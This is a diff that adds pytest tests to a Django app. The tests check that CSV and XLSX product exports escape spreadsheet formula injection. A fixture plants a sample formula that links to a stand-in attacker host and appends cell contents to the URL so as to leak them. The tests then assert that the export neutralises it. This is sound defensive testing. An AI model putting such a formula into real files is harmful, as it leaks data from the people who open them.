@@ -218,3 +218,47 @@ def test_import_and_export_need_permissions(client, django_user_model):
     client.force_login(django_user_model.objects.create_user(username="clerk", password=None, is_staff=True))
     assert client.get(reverse("admin:calculator_product_import")).status_code == 403
     assert client.get(reverse("admin:calculator_product_export")).status_code == 403
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")'
+
+
+@pytest.fixture
+def product_with_a_formula(db):
+    from calculator.models import Product
+
+    product = Product.objects.order_by("pk").first()
+    product.name = FORMULA
+    product.description = "+1+2 and -3 and @SUM(1) are text"
+    product.save()
+    return product
+
+
+def export(client, file_format):
+    url = reverse("admin:calculator_product_export")
+    data = read_form(client.get(url).content, "")
+    data["format"] = [file_format]
+    response = client.post(url, data)
+    assert response.status_code == 200
+    return response
+
+
+def test_csv_export_escapes_formulas(editor_client, product_with_a_formula):
+    rows = list(csv.DictReader(io.StringIO(export(editor_client, "0").content.decode("utf-8-sig"))))
+    row = next(row for row in rows if row["slug"] == product_with_a_formula.slug)
+    assert row["name"] == "'" + FORMULA
+    for other in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in other.values() if cell)
+
+
+def test_xlsx_export_has_no_live_formula(editor_client, product_with_a_formula):
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(export(editor_client, "1").content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert "'" + FORMULA in [cell.value for cell in cells]
+    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
+    assert numbers  # amounts stay numbers
+    dataset = tablib.Dataset().load(export(editor_client, "1").content, format="xlsx")
+    assert "'" + FORMULA in dataset["name"]
